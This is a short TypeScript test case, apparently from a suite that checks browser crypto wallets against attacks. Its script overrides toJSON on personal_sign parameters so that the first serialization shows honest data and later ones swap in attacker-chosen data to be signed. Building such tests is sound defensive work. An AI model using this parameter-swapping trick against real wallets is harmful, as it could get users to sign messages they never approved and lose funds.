import type { Attack } from './kit/attack.ts'

export default {
  family: 'mutation',
  how: 'Gives parameters a toJSON that answers otherwise each time.',
  script: `
    let writes = 0
    const params = attack.honest.params
    Object.defineProperty(params, 'toJSON', { value: () => (writes++ === 0 ? attack.honest.params : attack.sign.params) })
    const asked = ethereum.request({ method: 'personal_sign', params })
    attack.tell('asked')
    await attack.ended(asked)
    ethereum.request(attack.sign)
  `,
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
  },
} satisfies Attack
